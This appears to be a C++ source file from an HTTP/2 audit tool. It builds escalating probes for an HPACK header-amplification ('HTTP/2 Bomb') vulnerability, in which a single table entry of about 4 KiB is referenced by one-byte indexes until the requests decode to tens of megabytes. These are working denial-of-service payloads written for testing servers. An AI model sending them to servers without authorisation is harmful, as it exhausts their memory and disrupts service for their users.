// Requests whose fields grow in the server (HTTP/2 Bomb, CVE-2026-49975): each has twice as many as the one before.

#include <algorithm>
#include <array>
#include <string>
#include <string_view>

#include "http2/audit/probe.hpp"
#include "http2/audit/writing.hpp"
#include "http2/hpack/dynamic_table.hpp"
#include "http2/hpack/integer.hpp"

namespace uncork::http2::audit {
namespace {

constexpr std::string_view kCookie = "cookie";
constexpr std::string_view kOther = "x";

std::uint32_t count_of_step(std::uint32_t i) noexcept { return 1U << i; }

/// A GET with as many more fields as step `i` has.
template <typename PutField>
void put_step(const Subject& subject, std::uint32_t i, byte_vector& into, PutField put_field) {
  const std::size_t begin = into.size();
  into.resize(begin + kFrameHeaderBytes);
  put_request_fields(subject, Method::get, stream_of(i), into);
  for (std::uint32_t left = count_of_step(i); left > 0; --left) put_field();
  finish_headers(stream_of(i), true, begin, kLeastMaxFrameSize, into);
}

StepSize size_of(std::uint32_t i, std::uint64_t field_bytes) noexcept {
  return {count_of_step(i), count_of_step(i) * field_bytes};
}

/// The longest value that the server's table holds beside `name` (RFC 7541 4.1); 0 if it holds none.
std::size_t planted_bytes(const Subject& subject, std::string_view name) noexcept {
  constexpr std::size_t kMostTable = 4096;  // more would have to be said first
  const std::size_t table = std::min<std::size_t>(subject.table_bytes, kMostTable);
  const std::size_t taken = DynamicTable::kEntryOverhead + name.size();
  return table > taken ? table - taken : 0;
}

void put_planted(const Subject& subject, std::uint32_t i, std::string_view name, byte_vector& into) {
  const std::string value(planted_bytes(subject, name), 'v');
  bool is_there = i > 0;
  put_step(subject, i, into, [&] {
    if (value.empty()) {
      put_literal(name, "", into);
    } else if (is_there) {
      put_indexed(kNewestEntry, into);
    } else {
      into.push_back(std::byte{0x40});  // a literal that enters the table, of a new name
      put_integer(0, 7, static_cast<std::uint32_t>(name.size()), into);
      for (const char one : name) into.push_back(static_cast<std::byte>(one));
      put_integer(0, 7, static_cast<std::uint32_t>(value.size()), into);
      into.insert(into.end(), value.size(), std::byte{'v'});
      is_there = true;
    }
  });
}

void fields(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_step(subject, i, into, [&] { put_literal(kOther, "y", into); });
}
StepSize fields_size(const Subject& /*subject*/, std::uint32_t i) { return size_of(i, 2); }

void references(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_step(subject, i, into, [&] { put_indexed(static_entry::kEmptyAccept, into); });
}
StepSize references_size(const Subject& /*subject*/, std::uint32_t i) { return size_of(i, std::string_view("accept").size()); }

void crumbs(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_step(subject, i, into, [&] { put_indexed(static_entry::kEmptyCookie, into); });
}
StepSize crumbs_size(const Subject& /*subject*/, std::uint32_t i) { return size_of(i, kCookie.size()); }

void long_crumbs(const Subject& subject, std::uint32_t i, byte_vector& into) { put_planted(subject, i, kCookie, into); }
StepSize long_crumbs_size(const Subject& subject, std::uint32_t i) {
  return size_of(i, kCookie.size() + planted_bytes(subject, kCookie));
}

void amplified(const Subject& subject, std::uint32_t i, byte_vector& into) { put_planted(subject, i, kOther, into); }
StepSize amplified_size(const Subject& subject, std::uint32_t i) {
  return size_of(i, kOther.size() + planted_bytes(subject, kOther));
}

constexpr Manner kSteps = Manner::steps;
constexpr Ends kStream = Ends::stream;
// 2^16 literals are 320 KiB; 2^17 references 128 KiB; 2^14 references of 4 KiB come to 64 MiB when decoded.
constexpr std::array kProbes = {Probe{.name = "fields",
                                      .what = "small fields",
                                      .manner = kSteps,
                                      .ends = kStream,
                                      .unit = fields,
                                      .size = fields_size,
                                      .steps = 17},
                                Probe{.name = "references",
                                      .what = "empty fields, 1 byte each",
                                      .manner = kSteps,
                                      .ends = kStream,
                                      .unit = references,
                                      .size = references_size,
                                      .steps = 18},
                                Probe{.name = "crumbs",
                                      .what = "empty cookies, 1 byte each",
                                      .manner = kSteps,
                                      .ends = kStream,
                                      .unit = crumbs,
                                      .size = crumbs_size,
                                      .steps = 18},
                                Probe{.name = "long-crumbs",
                                      .what = "cookies of 4 KiB, 1 byte each",
                                      .manner = kSteps,
                                      .ends = kStream,
                                      .unit = long_crumbs,
                                      .size = long_crumbs_size,
                                      .steps = 15},
                                Probe{.name = "amplified",
                                      .what = "fields of 4 KiB, 1 byte each",
                                      .manner = kSteps,
                                      .ends = kStream,
                                      .unit = amplified,
                                      .size = amplified_size,
                                      .steps = 15}};

}  // namespace

std::span<const Probe> field_probes() noexcept { return kProbes; }

}  // namespace uncork::http2::audit
